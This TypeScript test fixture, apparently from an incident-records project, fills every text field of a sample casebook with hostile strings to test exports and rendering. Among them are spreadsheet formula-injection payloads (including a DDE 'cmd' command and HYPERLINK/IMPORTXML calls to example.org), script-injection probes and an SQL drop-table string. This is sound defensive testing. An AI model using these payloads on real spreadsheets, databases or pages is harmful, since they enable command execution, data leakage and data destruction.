import { casebook } from '@recount/casebook'
import type { RecordSet } from '@recount/core/records'

/** Texts that spreadsheets, parsers and pages have been caught with. */
export const hostileTexts = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '=HYPERLINK("http://example.org/?"&A1,"press")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://example.org","//a")',
  '"=1+1"',
  'a","=1+1","b',
  'a;=1+1;b',
  'a\n=1+1',
  'a\r\n=1+1\r\n',
  '=1+1\u0000',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '; drop table incident; --',
  '\u202e=1+1',
  '\ufeff=1+1',
  '007',
  '1e10',
  '2022-12-02',
  'TRUE',
  '  spaces  ',
  '"',
  ',',
  "'",
  'کابل؛ پېښه',
]

/** The casebook with a hostile text in every place where words can stand. */
export const hostileRecords: RecordSet = {
  ...casebook,
  sources: casebook.sources.map((source, index) => ({ ...source, name: { en: hostile(index) } })),
  documents: casebook.documents.map((document, index) => ({
    ...document,
    title: { en: hostile(index) },
  })),
  actors: casebook.actors.map((actor, index) => ({ ...actor, name: { en: hostile(index) } })),
  incidents: hostileTexts.flatMap((text, index) => {
    const incident = casebook.incidents[index % casebook.incidents.length]
    if (incident === undefined) return []
    return {
      ...incident,
      id: `hostile-${index}`,
      title: { en: text, fa: text, ps: text },
      where: { ...incident.where, locality: { en: text } },
      claims: incident.claims.map((claim) =>
        claim.kind === 'statement' ? { ...claim, summary: { en: text } } : claim,
      ),
      links: [],
    }
  }),
}

function hostile(index: number): string {
  return hostileTexts[index % hostileTexts.length] ?? ''
}
